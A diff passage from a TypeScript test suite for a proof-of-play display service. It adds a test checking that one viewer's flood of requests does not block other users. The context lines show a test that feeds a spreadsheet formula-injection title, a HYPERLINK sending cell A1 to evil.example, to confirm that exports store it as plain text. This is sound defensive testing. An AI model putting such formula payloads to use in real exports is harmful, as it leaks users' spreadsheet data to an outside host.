@@ -419,6 +419,22 @@ describeDialects('proof of play', (dialect) => {
       await admin.call('removeDisplay', { params: lab, headers: { 'if-match': '*' } })
     })
 
+    it('[S39] one viewer with many connections closes the report for nobody else', async () => {
+      const key = { organisationId: OrganisationId.parse(`busy${dialect}`), displayId: DisplayId.parse('hall') }
+      await makePlace(server, key)
+      const viewer = (await enterAs(server, `many-${dialect}`, { role: 'viewer', home: key })).client
+      const colleague = (await enterAs(server, `few-${dialect}`, { role: 'viewer', home: key })).client
+      const pathIn = ({ organisationId }: typeof key) =>
+        `${pathOf('getPlays', { organisationId })}?${new URLSearchParams(today())}`
+      const flood = Array.from({ length: 40 }, () => viewer.visit(pathIn(key)))
+      const others = [
+        ...Array.from({ length: 3 }, () => admin.visit(pathIn(SAMPLE_DISPLAY))),
+        colleague.visit(pathIn(key)),
+      ]
+      expect((await Promise.all(others)).map(({ status }) => status)).toEqual([200, 200, 200, 200])
+      for (const { status } of await Promise.all(flood)) expect([200, 503]).toContain(status)
+    })
+
     it('[B97] a title that is a formula is text in the table, and stays in its cell', async () => {
       const title = '=HYPERLINK("https://evil.example/?"&A1,"Click, here")'
       const item = { title, url: 'https://example.org/b.jpg', type: 'image' as const }
